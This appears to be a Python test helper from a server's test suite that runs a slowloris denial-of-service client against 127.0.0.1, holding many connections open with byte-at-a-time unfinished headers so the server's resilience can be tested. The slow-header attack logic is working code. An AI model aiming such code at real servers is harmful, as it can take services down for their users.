"""Attackers the server tests run in a process of their own, so that their
work does not slow the test's own clients: ``python tests/attackers.py
slowloris PORT ...``.

- ``slowloris``: opens many connections and sends each request's headers
  a byte at a time, seconds apart, never finishing them; a connection the
  server closes is opened again. Prints ``ready`` once every connection is
  open, and on SIGTERM prints how many connections it opened in all.
"""

from __future__ import annotations

import argparse
import selectors
import signal
import socket
import sys
import time

#: What the slow client starts sending; it never gets to the blank line.
SLOW_REQUEST = b"GET / HTTP/1.1\r\nHost: slow\r\nX-a: " + b"b" * 100_000


def slowloris(port: int, connections: int, interval: float) -> None:
    """Hold ``connections`` connections to ``127.0.0.1:port``, each sending
    the next byte of :data:`SLOW_REQUEST` every ``interval`` seconds, until
    SIGTERM."""
    stopping = False

    def stop(signum: int, frame: object) -> None:
        nonlocal stopping
        stopping = True

    signal.signal(signal.SIGTERM, stop)
    opened = 0
    # Each connection: how many bytes of SLOW_REQUEST it has sent.
    sent: dict[socket.socket, int] = {}
    selector = selectors.DefaultSelector()

    def open_one() -> None:
        nonlocal opened
        sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        sock.setblocking(False)
        sent[sock] = 0
        # Readable means the server answered or closed: either way it let go.
        selector.register(sock, selectors.EVENT_READ)
        opened += 1

    def drop(sock: socket.socket) -> None:
        selector.unregister(sock)
        sock.close()
        del sent[sock]

    for _ in range(connections):
        open_one()
    print("ready", flush=True)
    next_send = time.monotonic()
    while not stopping:
        for key, _ in selector.select(timeout=max(0.0, next_send - time.monotonic())):
            drop(t_sock(key.fileobj))
        if time.monotonic() >= next_send:
            for sock, count in list(sent.items()):
                try:
                    sock.send(SLOW_REQUEST[count : count + 1])
                    sent[sock] = count + 1
                except OSError:
                    drop(sock)
            next_send = time.monotonic() + interval
        while len(sent) < connections and not stopping:
            try:
                open_one()
            except OSError:
                break
    print(f"opened {opened}", flush=True)


def t_sock(fileobj: object) -> socket.socket:
    assert isinstance(fileobj, socket.socket)
    return fileobj


def main(argv: list[str]) -> None:
    parser = argparse.ArgumentParser(prog="attackers")
    commands = parser.add_subparsers(dest="attack", required=True)
    slow = commands.add_parser("slowloris")
    slow.add_argument("port", type=int)
    slow.add_argument("--connections", type=int, default=200)
    slow.add_argument("--interval", type=float, default=2.0)
    arguments = parser.parse_args(argv)
    slowloris(arguments.port, arguments.connections, arguments.interval)


if __name__ == "__main__":
    main(sys.argv[1:])
